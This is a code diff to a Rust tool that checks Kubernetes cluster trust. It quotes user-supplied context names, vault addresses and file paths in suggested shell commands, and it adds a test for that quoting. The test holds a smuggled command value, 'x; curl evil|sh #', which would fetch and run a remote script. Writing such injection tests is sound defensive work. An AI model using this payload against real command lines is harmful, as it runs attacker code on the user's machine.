@@ -197,7 +197,7 @@ impl Explain for TrustError {
         match self {
             Self::OtherCluster { context, .. } => Some(format!(
                 "{{program}} trust{{profile}} --context {}",
-                context.as_deref().map_or("CONTEXT".into(), shell_word)
+                shell_word(context.as_deref().unwrap_or("CONTEXT"))
             )),
             Self::TlsOff { .. } => Some(
                 "remove `insecure-skip-tls-verify` from the kubeconfig, or allow it in the profile's `cluster` pin"
@@ -222,8 +222,10 @@ impl Explain for TrustError {
                     .into(),
             ),
             Self::Declined { .. } => None,
-            Self::NotKept { path, .. } => Some(format!("make the folder of `{path}` writable")),
-            Self::Memory { path, .. } => Some(format!("look at `{path}`, and remove it if you do not miss it")),
+            Self::NotKept { path, .. } => Some(format!("make the folder of `{}` writable", shell_word(path))),
+            Self::Memory { path, .. } => {
+                Some(format!("look at `{}`, and remove it if you do not miss it", shell_word(path)))
+            }
         }
     }
 }
@@ -376,6 +378,21 @@ mod tests {
         assert_eq!(refusal.why().as_deref(), Some("the kubeconfig names another server"));
         assert_eq!(refusal.hint().as_deref(), Some("{program} trust{profile} --context CONTEXT"));
         assert_eq!(refusal.exit_code(), ExitCode::Withheld);
+    }
+
+    #[test]
+    fn a_hint_holds_foreign_words_as_one_word_each() {
+        let foreign = "x; curl evil|sh #";
+        let refusal = TrustError::OtherCluster {
+            server: EVIL.into(),
+            known: PROD.into(),
+            difference: Difference::Server,
+            context: Some(foreign.into()),
+        };
+        assert!(refusal.hint().is_some_and(|hint| hint.contains(" --context 'x; curl evil|sh #'")));
+        let refusal = TrustError::UnknownVault { address: format!("https://{foreign}"), foreign: vec![] };
+        let hint = refusal.hint();
+        assert!(hint.is_some_and(|hint| hint.contains(" --vault-address 'https://x; curl evil|sh #'")));
     }
 
     #[test]
